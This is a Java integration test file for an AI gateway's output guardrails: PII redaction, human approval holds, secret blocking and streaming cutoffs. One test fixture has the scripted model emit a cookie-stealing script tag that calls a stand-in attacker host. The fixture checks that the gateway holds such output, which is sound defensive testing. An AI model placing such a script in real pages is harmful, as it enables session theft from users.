package io.plumbline.gateway;

import static io.plumbline.gateway.Parking.HEADER;
import static io.plumbline.gateway.Parking.error;
import static io.plumbline.gateway.Parking.id;
import static io.plumbline.gateway.RunningGateway.chat;
import static io.plumbline.gateway.RunningGateway.content;
import static io.plumbline.gateway.RunningGateway.events;
import static io.plumbline.gateway.RunningGateway.json;
import static io.plumbline.gateway.RunningGateway.message;
import static io.plumbline.gateway.RunningGateway.said;
import static org.assertj.core.api.Assertions.assertThat;

import io.plumbline.audit.payload.KeyWrap;
import io.plumbline.audit.payload.PayloadCommitment;
import io.plumbline.audit.payload.PayloadVault;
import io.plumbline.clients.governance.Approval;
import io.plumbline.clients.governance.ApprovalRequirement;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;

/// Answers that say what the policy asks a person about, in the stage `output`.
@ExtendWith(SharedGateway.class)
class ParkedWordsIT {

    private static final String POLICY = """
            {"stages": {"output": {
              "pii": {"action": "redact", "entityRules": {"EMAIL_ADDRESS": {"action": "ask"}}},
              "secret": {"action": "block"}, "insecure_output": {"action": "ask"}}}}""";

    private static final String STREAM = ", \"stream\": true";
    /// As long as a sentence has to be to go out before the next one has ended, which begins with the other.
    private static final String FIRST = "There is somebody in the department who knows all about it. ";

    private static final String SECOND = "This is what they told me when we talked about the matter ";

    private static final String WORDS = "Sure. Write to jane.roe@example.com, or call +1 415 555 2671.";

    private final RunningGateway gateway;
    private final ScriptedProvider provider;
    private final Parking parking;

    ParkedWordsIT(RunningGateway gateway, ScriptedProvider provider) {
        this.gateway = gateway;
        this.provider = provider;
        this.parking = new Parking(gateway);
    }

    @BeforeEach
    void route() {
        parking.route("telling", "fake", POLICY);
        parking.route("telling-claude", "claude", POLICY);
        provider.plays((_, connection) -> connection.json(200, ScriptedProvider.answer(WORDS)));
    }

    @Test
    void waitForAPersonAndAreGivenOnceTheyAreApproved() {
        String body = chat("telling", "Whom do I ask?", "");
        HttpResponse<String> parked = parking.call(body);
        assertThat(parked.statusCode()).as(parked.body()).isEqualTo(409);
        assertThat(error(parked).path("code").asString()).isEqualTo("approval_required");
        assertThat(parked.headers().firstValue("x-plumbline-guardrails"))
                .hasValueSatisfying(header -> assertThat(header).contains("pii=ask"));
        assertThat(parked.body()).doesNotContain("jane");
        assertThat(parking.call(body, HEADER, id(parked)).statusCode()).isEqualTo(409);
        assertThat(id(parking.call(body))).as("the same call").isEqualTo(id(parked));
        parking.approve(id(parked));
        HttpResponse<String> answer = parking.call(body, HEADER, id(parked));
        assertThat(content(answer))
                .startsWith("Sure. Write to jane.roe@example.com, or call [PHONE")
                .doesNotContain("2671");
        assertThat(provider.received()).as("the model was asked once").hasSize(1);
        assertThat(gateway.event(parked).at("/attributes/errorType").asString()).isEqualTo("policy_approval");
    }

    @Test
    void areShownWithoutWhatIsAskedAbout() {
        HttpResponse<String> parked = parking.call(chat("telling", "Whom do I ask in writing?", ""));
        ApprovalRequirement question = parking.question(id(parked));
        assertThat(question.reason()).contains("says something (pii)", "route telling", "policy telling@1");
        ApprovalRequirement.Detail shown = question.terms().details().getLast();
        assertThat(shown.label()).isEqualTo("The model says in choices[0].message.content");
        assertThat(shown.text()).contains("Write to [EMAIL_ADDRESS").doesNotContain("jane", "2671");
        assertThat(parking.call(chat("telling", "Once more?", "")).statusCode()).isEqualTo(409);
        assertThat(kept(parked)).contains("Write to [EMAIL_ADDRESS").doesNotContain("jane", "2671");
    }

    /// What is kept of a call's content.
    private String kept(HttpResponse<String> answer) {
        JsonNode commitment = gateway.event(answer).path("payload");
        PayloadVault vault = new PayloadVault(
                gateway.service().database().superuser(), gateway.service().bean(KeyWrap.class), new SecureRandom());
        return vault.open(
                        UUID.fromString(RunningGateway.callId(answer)),
                        new PayloadCommitment(
                                commitment.path("digest").asString(),
                                commitment.path("salt").asString()))
                .map(payload -> new String(payload.content(), StandardCharsets.UTF_8))
                .orElseThrow();
    }

    @Test
    void areRefusedWhenAPersonCouldNotSeeAllOfThem() {
        provider.plays((_, connection) -> connection.json(
                200, ScriptedProvider.answer("Write to jane.roe@example.com. " + "And so on. ".repeat(1_500))));
        HttpResponse<String> refused = parking.call(chat("telling", "Whom, at length?", ""));
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(error(refused).path("code").asString()).isEqualTo("pii");
        assertThat(refused.body()).contains("too long").doesNotContain("jane");
    }

    @Test
    void areShownWithTheArgumentsOfCallsBesideThem() {
        provider.plays(
                (_, connection) -> connection.json(200, Parking.calling("search {\"q\":\"jane.roe@example.com\"}")));
        HttpResponse<String> parked = parking.call(chat("telling", "Whom do I look for?", Parking.TOOLS));
        assertThat(parked.statusCode()).as(parked.body()).isEqualTo(409);
        ApprovalRequirement.Detail shown =
                parking.question(id(parked)).terms().details().getLast();
        assertThat(shown.label()).isEqualTo("Call 1 of 1: search, allowed by the policy");
        assertThat(shown.text()).contains("EMAIL_ADDRESS").doesNotContain("jane");
        parking.approve(id(parked));
        assertThat(parking.call(chat("telling", "Whom do I look for?", Parking.TOOLS), HEADER, id(parked))
                        .body())
                .contains("{\\\"q\\\":\\\"jane.roe@example.com\\\"}");
    }

    @Test
    void areWithheldForGoodWhenTheyAreRejected() {
        String body = chat("telling", "Who is it?", "");
        HttpResponse<String> parked = parking.call(body);
        parking.decide(id(parked), Approval.State.REJECTED, "She has left.");
        HttpResponse<String> refused = parking.call(body, HEADER, id(parked));
        assertThat(refused.statusCode()).isEqualTo(403);
        assertThat(error(refused).path("message").asString()).contains("She has left.");
    }

    @Test
    void breakOffAStreamThatHasSaidSomething() {
        streams(FIRST, SECOND, "today. ", "Write to jane.", "roe@exam", "ple.com, please. ", "Bye.");
        String body = chat("telling", "Whom, word by word?", STREAM);
        HttpResponse<String> parked = parking.call(body);
        assertThat(parked.statusCode()).isEqualTo(200);
        List<String> events = events(parked.body());
        assertThat(said(events.subList(0, events.size() - 1), 0)).startsWith(FIRST.strip());
        assertThat(parked.body()).doesNotContain("jane", "example.com", "Bye", "[DONE]", "finish_reason\":\"stop");
        JsonNode error = RunningGateway.JSON.readTree(events.getLast()).path("error");
        assertThat(error.path("code").asString()).isEqualTo("approval_required");
        parking.approve(error.at("/approval/id").asString());
        HttpResponse<String> answer =
                parking.call(body, HEADER, error.at("/approval/id").asString());
        assertThat(said(events(answer.body()), 0))
                .isEqualTo(FIRST + SECOND + "today. Write to jane.roe@example.com, please. Bye.");
        assertThat(answer.body()).endsWith("data: [DONE]\n\n");
        assertThat(provider.received()).hasSize(1);
    }

    @Test
    void areNotEvenBegunAsStreamsThatSayNothingElseFirst() {
        streams("jane.", "roe@example.com", " is ", "whom you want.");
        String body = chat("telling", "Whom, and nothing before?", STREAM);
        HttpResponse<String> parked = parking.call(body);
        assertThat(parked.statusCode()).as(parked.body()).isEqualTo(409);
        parking.approve(id(parked));
        assertThat(said(events(parking.call(body, HEADER, id(parked)).body()), 0))
                .isEqualTo("jane.roe@example.com is whom you want.");
    }

    private void streams(String... pieces) {
        provider.plays((_, connection) -> {
            connection.beginStream();
            connection.event(Parking.chunk("{\"role\":\"assistant\",\"content\":\"\"}", null));
            for (String piece : pieces) {
                connection.delta(piece);
            }
            connection.finish("stop");
            connection.done();
        });
    }

    @Test
    void areSentencesOnAnthropicsSurfaceToo() {
        provider.plays((_, connection) -> {
            AnthropicScripts.beginText(connection);
            AnthropicScripts.text(connection, FIRST);
            AnthropicScripts.text(connection, SECOND);
            AnthropicScripts.text(connection, "today. ");
            AnthropicScripts.text(connection, "<script>fetch('//evil.example/'+document.cookie)</script>\n");
            AnthropicScripts.text(connection, "Enjoy. ");
            AnthropicScripts.stopBlock(connection);
            AnthropicScripts.end(connection);
        });
        String body = message("telling-claude", "A page, please.", STREAM);
        HttpResponse<String> parked = parking.messages(body);
        assertThat(parked.body())
                .contains(FIRST.strip(), "event: error", "approval_required")
                .doesNotContain("cookie", "Enjoy", "message_stop");
        List<JsonNode> events = AnthropicScripts.events(parked.body());
        String id = events.getLast().at("/error/approval/id").asString();
        assertThat(parking.question(id).terms().details())
                .extracting(ApprovalRequirement.Detail::text)
                .anyMatch(text -> text.contains("document.cookie"));
        parking.approve(id);
        HttpResponse<String> answer = parking.messages(body, HEADER, id);
        assertThat(AnthropicScripts.joined(AnthropicScripts.events(answer.body()), "text"))
                .contains(FIRST, "document.cookie", "Enjoy.");
        provider.plays((_, connection) -> connection.json(200, AnthropicScripts.answer(WORDS)));
        HttpResponse<String> whole = parking.messages(message("telling-claude", "Whom?", ""));
        assertThat(whole.statusCode()).as(whole.body()).isEqualTo(409);
        parking.approve(id(whole));
        assertThat(json(parking.messages(message("telling-claude", "Whom?", ""), HEADER, id(whole)))
                        .at("/content/0/text")
                        .asString())
                .contains("jane.roe@example.com");
    }

    @Test
    void areNotGivenAnywayWhereNobodyIsShownThem() {
        provider.plays((_, connection) -> {
            AnthropicScripts.beginText(connection);
            AnthropicScripts.text(connection, "See the source.");
            AnthropicScripts.event(connection, """
                {"type":"content_block_delta","index":0,"delta":{"type":"citations_delta","citation":\
                {"type":"char_location","cited_text":"Ask jane.roe@example.com."}}}\
                """);
            AnthropicScripts.stopBlock(connection);
            AnthropicScripts.end(connection);
        });
        int before = gateway.service().governance().requirements().size();
        HttpResponse<String> refused = parking.messages(message("telling-claude", "Where is it said?", STREAM));
        assertThat(refused.body()).contains("\"refusal\"").doesNotContain("jane", "approval");
        assertThat(gateway.service().governance().requirements()).hasSize(before);
    }

    @Test
    void areShownWithTheSourcesThatAreQuoted() {
        provider.plays((_, connection) -> connection.json(
                200,
                AnthropicScripts.answer("See the source.")
                        .replace(
                                "\"type\":\"text\",",
                                "\"type\":\"text\",\"citations\":[{\"cited_text\":\"Ask jane.roe@example.com.\"}],")));
        HttpResponse<String> parked = parking.messages(message("telling-claude", "Where, in whole?", ""));
        assertThat(parked.statusCode()).as(parked.body()).isEqualTo(409);
        assertThat(parking.question(id(parked)).terms().details())
                .extracting(ApprovalRequirement.Detail::text)
                .contains("See the source.")
                .anyMatch(text -> text.startsWith("Ask [EMAIL_ADDRESS"));
    }

    @Test
    void areRefusedWithWhatIsBlockedAnyway() {
        provider.plays((_, connection) ->
                connection.json(200, ScriptedProvider.answer("jane.roe@example.com has AKIAIOSFODNN7EXAMPLE.")));
        int before = gateway.service().governance().requirements().size();
        HttpResponse<String> refused = parking.call(chat("telling", "Whom, with a key?", ""));
        assertThat(content(refused)).isEmpty();
        assertThat(json(refused).at("/choices/0/finish_reason").asString()).isEqualTo("content_filter");
        assertThat(gateway.service().governance().requirements()).hasSize(before);
    }

    @Test
    void areTakenOutOfARefusalByTheProvider() {
        provider.plays((_, connection) -> connection.json(
                400, "{\"error\": {\"message\": \"Not for jane.roe@example.com.\", \"code\": \"no\"}}"));
        HttpResponse<String> refused = parking.call(chat("telling", "Whom not?", ""));
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.body()).contains("provider_refused").doesNotContain("jane");
    }
}
